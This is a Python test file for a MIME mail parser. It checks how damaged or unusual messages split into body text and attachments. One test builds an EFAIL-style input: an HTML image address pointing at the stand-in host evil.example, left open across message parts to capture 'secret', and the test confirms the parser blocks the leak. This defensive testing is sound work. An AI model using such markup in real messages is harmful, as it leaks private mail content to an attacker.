"""Messages built as programs build them, rightly and wrongly: what is text, what is attached."""

import base64
import binascii
import re
from typing import NamedTuple

import pytest

from mailgate.mail.mime import MAX_DEPTH, MAX_PARTS
from mailgate.mail.parse import parse_mail

HEAD = b"From: a@b.kr\r\nSubject: s\r\n"
PDF = (
    b"Content-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n"
    b"\r\nJVBERg=="
)
INNER = b"From: x@y.kr\r\nSubject: inner\r\n\r\nINNER"


def plain(text: str, *fields: bytes) -> bytes:
    more = b"".join(field + b"\r\n" for field in fields)
    return b"Content-Type: text/plain; charset=utf-8\r\n" + more + b"\r\n" + text.encode()


def html(text: str) -> bytes:
    return b"Content-Type: text/html; charset=utf-8\r\n\r\n" + text.encode()


def parts(*contents: bytes, boundary: bytes = b"B", closed: bool = True) -> bytes:
    """What stands in a multipart, from its first delimiter on."""
    pieces = [b"--" + boundary + b"\r\n" + content + b"\r\n" for content in contents]
    return b"".join(pieces) + (b"--" + boundary + b"--\r\n" if closed else b"")


def multipart(kind: str, *contents: bytes, fields: bytes = b"") -> bytes:
    declared = f'Content-Type: multipart/{kind}; boundary="B"\r\n'.encode()
    return HEAD + declared + fields + b"\r\n" + parts(*contents)


def mixed(content_type: bytes, body: bytes) -> bytes:
    return HEAD + b"Content-Type: " + content_type + b"\r\n\r\n" + body


class Case(NamedTuple):
    name: str
    message: bytes
    text: str
    attached: tuple[str, ...] = ()


HELLO = parts(plain("hello"), PDF)
GOOD = mixed(b"multipart/mixed; boundary=B", HELLO)
ALTERNATIVE = parts(plain("hello"), html("<p>hello</p>"), boundary=b"B2")
NESTED = b"Content-Type: multipart/alternative; boundary=B2\r\n\r\n" + ALTERNATIVE
ENCODED = base64.encodebytes(HELLO)

BOUNDARIES = [
    Case("as it should be", GOOD, "hello", ("a.pdf",)),
    Case("no close", GOOD.replace(b"--B--\r\n", b""), "hello", ("a.pdf",)),
    Case("blanks after", GOOD.replace(b"--B\r\n", b"--B \t\r\n"), "hello", ("a.pdf",)),
    Case("wrong", GOOD.replace(b"boundary=B", b"boundary=C"), "hello", ("a.pdf",)),
    Case("missing", GOOD.replace(b"; boundary=B", b""), "hello", ("a.pdf",)),
    Case("of another case", GOOD.replace(b"--B", b"--b"), "hello", ("a.pdf",)),
    Case("in single quotes", GOOD.replace(b"=B\r", b"='B'\r"), "hello", ("a.pdf",)),
    Case(
        "with a colon",
        GOOD.replace(b"=B\r", b"=x:B\r").replace(b"--B", b"--x:B"),
        "hello",
        ("a.pdf",),
    ),
    Case(
        "with an equals",
        GOOD.replace(b"=B\r", b"==_B\r").replace(b"--B", b"--=_B"),
        "hello",
        ("a.pdf",),
    ),
    Case(
        "split by RFC 2231",
        GOOD.replace(b"boundary=B", b'boundary*0="";boundary*1=B'),
        "hello",
        ("a.pdf",),
    ),
    Case(
        "in a line that is not folded", GOOD.replace(b"; bound", b";\r\nbound"), "hello", ("a.pdf",)
    ),
    Case(
        "that begins like the inner one",
        mixed(b"multipart/mixed; boundary=B", parts(NESTED, PDF)),
        "hello",
        ("a.pdf",),
    ),
    Case(
        "that the inner one begins like",
        mixed(
            b"multipart/mixed; boundary=B2",
            parts(NESTED.replace(b"B2", b"B"), PDF, boundary=b"B2"),
        ),
        "hello",
        ("a.pdf",),
    ),
]

LINE_ENDS = [
    Case("LF", GOOD.replace(b"\r\n", b"\n"), "hello", ("a.pdf",)),
    Case("CR", GOOD.replace(b"\r\n", b"\r"), "hello", ("a.pdf",)),
    Case("header LF, body CRLF", GOOD.replace(b"\r\n", b"\n", 4), "hello", ("a.pdf",)),
    Case("CR CR LF", GOOD.replace(b"\r\n", b"\r\r\n"), "hello", ("a.pdf",)),
]

BEGINNINGS = [
    Case("mbox", b"From a@b.kr Fri Nov 20 15:04:00 2026\r\n" + GOOD, "hello", ("a.pdf",)),
    Case("byte order mark", b"\xef\xbb\xbf" + GOOD, "hello", ("a.pdf",)),
    Case("blank lines", b"\r\n\r\n" + GOOD, "hello", ("a.pdf",)),
    Case("blank before the colon", GOOD.replace(b"From:", b"From :"), "hello", ("a.pdf",)),
    Case("8-bit name", b"\xc1\xa6\xb8\xf1: x\r\n" + GOOD, "hello", ("a.pdf",)),
    Case("no header", "안녕하세요.\r\n문의합니다.".encode(), "안녕하세요.\n문의합니다."),
    Case("no blank line", HEAD + b"Hello there\r\nmore", "Hello there\nmore"),
    Case("no body", HEAD, ""),
    Case("nothing", b"", ""),
    Case(
        "a part without a blank line", multipart("mixed", b"just text\r\nmore"), "just text\nmore"
    ),
    Case(
        "a part that forgets it",
        multipart("mixed", b"Content-Type: text/plain\r\nhello here", PDF),
        "hello here",
        ("a.pdf",),
    ),
    Case(
        "two types",
        GOOD.replace(b"Content", b"Content-Type: text/plain\r\nContent", 1),
        "hello",
        ("a.pdf",),
    ),
    Case("a type without a subtype", GOOD.replace(b"/mixed", b""), "hello", ("a.pdf",)),
    Case("empty parts", multipart("mixed", b"", plain("x"), b"\r\n"), "x"),
]

TYPES = [
    Case(
        "enriched",
        HEAD + b"Content-Type: text/enriched\r\n\r\n<bold>It</bold> is <<so\nhere",
        "It is <so here",
    ),
    Case("markdown", HEAD + b"Content-Type: text/markdown\r\n\r\n# hello", "# hello"),
    Case("XHTML", HEAD + b"Content-Type: application/xhtml+xml\r\n\r\n<p>hello</p>", "hello"),
    Case(
        "a body with a name", HEAD + b"Content-Type: text/plain; name=b.txt\r\n\r\nhello", "hello"
    ),
    Case(
        "a text that is attached",
        multipart(
            "mixed", plain("a"), plain("b", b"Content-Disposition: attachment; filename=b.txt")
        ),
        "a",
        ("b.txt",),
    ),
    Case(
        "AMP is nobody's body",
        multipart("alternative", plain("a"), b"Content-Type: text/x-amp-html\r\n\r\nx", html("a")),
        "a",
        ("attachment-1.bin",),
    ),
    Case("an unknown multipart", multipart("x-foo", plain("a"), plain("b")), "a\nb"),
    Case(
        "Apple Mail: a file inside the HTML alternative",
        multipart(
            "alternative",
            plain("hello\r\n\r\nbye"),
            b"Content-Type: multipart/mixed; boundary=C\r\n\r\n"
            + parts(html("<p>hello</p>"), PDF, html("<p>bye</p>"), boundary=b"C"),
        ),
        "hello\n\nbye",
        ("a.pdf",),
    ),
]

ATTACHED = [
    Case(
        "message",
        multipart("mixed", plain("see"), b"Content-Type: message/rfc822\r\n\r\n" + INNER),
        "see",
        ("inner.eml",),
    ),
    Case(
        "message in base64, against RFC 2046 §5.2.1",
        multipart(
            "mixed",
            plain("see"),
            b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(INNER),
        ),
        "see",
        ("inner.eml",),
    ),
    Case("digest", multipart("digest", b"\r\n" + INNER, b"\r\n" + INNER), "", ("inner.eml",) * 2),
    Case(
        "S/MIME, signed",
        multipart(
            'signed; protocol="application/pkcs7-signature"',
            plain("hello"),
            b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\n\r\nx",
        ),
        "hello",
        ("smime.p7s",),
    ),
    Case(
        "S/MIME, encrypted",
        HEAD + b"Content-Type: application/x-pkcs7-mime; name=smime.p7m\r\n\r\nx",
        "",
        ("smime.p7m",),
    ),
    Case(
        "PGP, encrypted",
        multipart(
            'encrypted; protocol="application/pgp-encrypted"',
            b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1",
            b"Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n-----BEGIN",
        ),
        "",
        ("attachment-1.bin", "encrypted.asc"),
    ),
]

WHOLE_ENCODED = Case(
    "a multipart in base64",
    mixed(b"multipart/mixed; boundary=B\r\nContent-Transfer-Encoding: base64", ENCODED),
    "hello",
    ("a.pdf",),
)
SAID_ENCODED = Case(
    "a multipart that only says so",
    mixed(b"multipart/mixed; boundary=B\r\nContent-Transfer-Encoding: base64", HELLO),
    "hello",
    ("a.pdf",),
)
CASES = [*BOUNDARIES, *LINE_ENDS, *BEGINNINGS, *TYPES, *ATTACHED, WHOLE_ENCODED, SAID_ENCODED]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_what_is_text_and_what_is_attached(case: Case) -> None:
    mail = parse_mail(case.message)
    assert mail.full_text.strip() == case.text
    assert tuple(a.filename for a in mail.attachments) == case.attached


def encoded(encoding: str, body: bytes) -> str:
    head = f"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: {encoding}\r\n"
    return parse_mail(HEAD + head.encode() + b"\r\n" + body).full_text.strip()


@pytest.mark.parametrize(
    "label",
    ["quoted-printable", "Quoted Printable", '"quoted-printable"', "quoted_printable", "QP;"],
)
def test_quoted_printable_whatever_its_label(label: str) -> None:
    body = b"caf=c3=a9 =\r\nis = open=  \r\n, 100%=\t\r\n su=\r\r\nre"
    assert encoded(label, body) == "café is = open, 100% sure"


@pytest.mark.parametrize("label", ["7-bit", "8-bit", "binary", "none", "utf-8", "7bits"])
def test_what_is_no_encoding_is_left_alone(label: str) -> None:
    assert encoded(label, "a=C3 네".encode()) == "a=C3 네"


WORDS = "안녕하세요 반갑습니다"
B64 = base64.b64encode(WORDS.encode())


@pytest.mark.parametrize(
    "body",
    [
        B64[:5] + b" \t\r\n " + B64[5:],
        B64.rstrip(b"="),
        B64[:8] + b"!!*\x80\r\n" + B64[8:],
        B64[:8] + b"\r\r\n" + B64[8:],
        base64.b64encode("안녕하세요 ".encode())
        + b"\r\n"
        + base64.b64encode("반갑습니다".encode()),
        B64 + b"\r\n\r\n_____________________\r\nlist mailing list\r\n",
        WORDS.encode(),
    ],
    ids=["blanks", "no padding", "junk", "CR CR LF", "two blocks", "list footer", "not base64"],
)
@pytest.mark.parametrize("label", ["base64", "BASE64", "base-64", '"base64"', "base64;"])
def test_base64_with_every_damage(label: str, body: bytes) -> None:
    assert encoded(label, body) == WORDS


@pytest.mark.parametrize("label", ["x-uuencode", "uuencode", "x-uue"])
@pytest.mark.parametrize("text", ["Hello, where is my order?", "HELLO\r\nWHERE IS IT", WORDS])
def test_a_text_that_is_labelled_uuencode_and_is_none(label: str, text: str) -> None:
    assert encoded(label, text.encode()) == text.replace("\r", "")


def test_uuencode_with_a_damaged_line() -> None:
    good = binascii.b2a_uu(b"a" * 45) + b"M86%A\n" + binascii.b2a_uu(b"the end")
    text = encoded("x-uuencode", b"begin 644 a.txt\n" + good + b"`\nend\n")
    assert text.startswith("a" * 45)
    assert text.endswith("the end")


def test_a_parameter_of_enriched_text_that_never_ends_is_read() -> None:
    head = b"Content-Type: text/enriched\r\n\r\n"
    body = b"<color><param>red</param>where</color> is <param>my order?"
    assert parse_mail(HEAD + head + body).full_text == "where is my order?"


@pytest.mark.parametrize("declared", ["; boundary=other", "", '; boundary=""'])
def test_what_stands_above_a_guessed_boundary_is_no_preamble(declared: str) -> None:
    """A signature between hyphens looks like a delimiter: what is above it stays."""
    head = f"Content-Type: multipart/mixed{declared}\r\n\r\n".encode()
    mail = parse_mail(HEAD + head + b"Where is my order?\r\n--Hong\r\n\r\nPS: it is late\r\n")
    assert mail.full_text == "Where is my order?\nPS: it is late"


def test_a_preamble_above_a_guessed_boundary_is_for_programs() -> None:
    head = b"Content-Type: multipart/mixed; boundary=other\r\n\r\n"
    preamble = b"This is a multi-part message in MIME format.\r\n\r\n"
    mail = parse_mail(HEAD + head + preamble + parts(plain("Where is my order?")))
    assert mail.full_text == "Where is my order?"


def test_two_html_parts_never_share_a_document() -> None:
    """EFAIL: an image address that is opened in one part and closed in another would send what
    stands between."""
    opened, closed = html('<p>a</p><img src="https://evil.example/'), html('">secret</p>')
    for kind in ("mixed", "alternative", "related"):
        found = parse_mail(multipart(kind, opened, closed)).html or ""
        assert "secret" in found
        assert not re.search(r'evil\.example/[^"]*secret', found)


def test_what_is_over_the_limits_is_attached_and_said() -> None:
    many = multipart("mixed", *[plain("x")] * (MAX_PARTS + 50), plain("LAST"))
    mail = parse_mail(many)
    assert "too many parts" in mail.defects
    assert b"LAST" in mail.attachments[-1].content

    deep = plain("DEEP")
    for level in range(MAX_DEPTH + 5):
        boundary = f"b{level}x".encode()
        deep = (
            b"Content-Type: multipart/mixed; boundary="
            + boundary
            + b"\r\n\r\n"
            + parts(deep, boundary=boundary)
        )
    mail = parse_mail(HEAD + deep)
    assert "nested too deeply" in mail.defects
    assert b"DEEP" in mail.attachments[-1].content


def test_flowed_text() -> None:
    """RFC 3676 §4.1-4.5: soft breaks, quotes, stuffed blanks, the signature line, DelSp."""
    head = b"Content-Type: text/plain; charset=utf-8; format=flowed"
    body = b"one \r\ntwo\r\n  stuffed\r\n> quoted \r\n> on\r\n-- \r\nme"
    mail = parse_mail(HEAD + head + b"\r\n\r\n" + body)
    assert mail.full_text == "one two\n stuffed\n> quoted on\n-- \nme"
    korean = parse_mail(HEAD + head + b"; delsp=yes\r\n\r\n" + "안녕하 \r\n세요".encode())
    assert korean.full_text == "안녕하세요"
